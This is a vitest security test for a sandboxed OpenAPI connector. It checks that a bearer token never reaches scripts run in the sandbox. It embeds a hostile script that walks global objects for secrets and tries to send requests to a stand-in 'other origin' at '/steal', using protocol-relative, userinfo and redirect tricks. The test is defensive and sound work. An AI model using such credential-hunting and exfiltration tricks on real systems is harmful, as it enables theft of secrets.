import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type CodeMode, createCodeMode } from "../src/create-code-mode.js";
import { type EchoServer, startEchoServer } from "./helpers/openapi-server.js";

const SPEC = new URL("./fixtures/openapi/echo-api.yaml", import.meta.url).pathname;
const TOKEN = "hunt_me_8c1d2e3f4a5b6c7d";

// Everything a hostile script can think of to get at the credential: every reachable value of
// every global, errors serialized every way, requests to other origins, a redirect to another
// origin, and a server that echoes the request's headers back.
const HUNT = `
const dump = [];
const seen = new Set();
function walk(value, depth) {
  if (depth > 6 || value === null || value === undefined) return;
  if (typeof value === "string") { dump.push(value); return; }
  if (typeof value !== "object" && typeof value !== "function") { dump.push(String(value)); return; }
  if (seen.has(value)) return;
  seen.add(value);
  if (typeof value === "function") { try { dump.push(Function.prototype.toString.call(value)); } catch {} }
  let keys = [];
  try { keys = Reflect.ownKeys(value); } catch {}
  for (const key of keys) {
    dump.push(String(key));
    let child;
    try { child = value[key]; } catch (error) { dump.push(String(error)); continue; }
    walk(child, depth + 1);
  }
  try { walk(Object.getPrototypeOf(value), depth + 1); } catch {}
}
walk(globalThis, 0);
async function attempt(label, call) {
  try {
    const result = await call();
    dump.push(label + " ok " + JSON.stringify(result));
    walk(result, 0);
  } catch (error) {
    dump.push(label + " error " + JSON.stringify(error) + " " + String(error) + " " + error.stack);
    dump.push(JSON.stringify(Object.getOwnPropertyNames(error).map((key) => [key, String(error[key])])));
    walk(error, 0);
  }
}
await attempt("echo", () => api.itemsGetOne({ id: "1" }));
await attempt("echo with own header", () => api.request({ path: "/items/x", headers: { Authorization: "mine" } }));
await attempt("error body", () => api.fail({ status: 401 }));
await attempt("absolute other origin", () => api.request({ path: OTHER + "/steal" }));
await attempt("protocol-relative", () => api.request({ path: OTHER.replace("http:", "") + "/steal" }));
await attempt("userinfo trick", () => api.request({ path: "@" + OTHER.slice(7) + "/steal" }));
await attempt("redirect to other origin", () => api.redirect({ where: "other" }));
await attempt("describe", () => codemode.describe("api"));
await attempt("search", () => codemode.search("authorization token"));
console.log(dump.length + " values seen");
return dump.join("\\n");
`;

describe("OpenAPI connector: credentials stay on the host", () => {
  let server: EchoServer;
  let other: EchoServer;
  let store: string;
  let cm: CodeMode;

  beforeAll(async () => {
    other = await startEchoServer({ host: "127.0.0.2" });
    server = await startEchoServer({ redirectOther: `${other.origin}/stolen` });
    store = await mkdtemp(join(tmpdir(), "codemode-openapi-"));
    process.env.API_TOKEN = TOKEN;
    cm = await createCodeMode({
      config: {
        servers: {
          api: {
            openapi: SPEC,
            baseUrl: `${server.origin}/v1`,
            headers: { Authorization: `Bearer \${env:API_TOKEN}` },
          },
        },
        store,
      },
      typecheck: false,
      limits: { maxOutputChars: 10_000_000 },
    });
  });

  afterAll(async () => {
    await cm?.close();
    await server?.close();
    await other?.close();
    await rm(store, { recursive: true, force: true });
    delete process.env.API_TOKEN;
  });

  it("a script hunting for the credential never sees it, and other origins get nothing", async () => {
    const outcome = await cm.execute(`const OTHER = ${JSON.stringify(other.origin)};\n${HUNT}`);
    expect(outcome.status).toBe("completed");
    const everything = JSON.stringify(outcome);
    expect(everything).not.toContain(TOKEN);
    expect(everything).not.toContain(TOKEN.slice(0, 12));
    const dump = String(outcome.result);
    // The echo reached the script with the credential redacted: the server did get it.
    expect(dump).toMatch(/"authorization":"\*\*\*"/);
    expect(dump).not.toContain('"authorization":"mine"');
    expect(
      server.received.every((request) => request.headers.authorization === `Bearer ${TOKEN}`),
    ).toBe(true);
    expect(dump).toMatch(/absolute other origin error .*origin_refused/);
    expect(dump).toMatch(/protocol-relative error .*path must start with/);
    expect(dump).toMatch(/userinfo trick error .*path must start with/);
    expect(dump).toMatch(/redirect to other origin error .*redirect_refused/);
    expect(dump).toMatch(/error body error .*HTTP 401.*failure 401 for \*\*\*/);
    expect(other.received).toEqual([]);
  });

  it("the declarations, prompt and catalog hold no credential", async () => {
    expect(cm.types()).not.toContain(TOKEN);
    expect(cm.systemPrompt).not.toContain(TOKEN);
    expect(JSON.stringify(cm.operations())).not.toContain(TOKEN);
  });
});
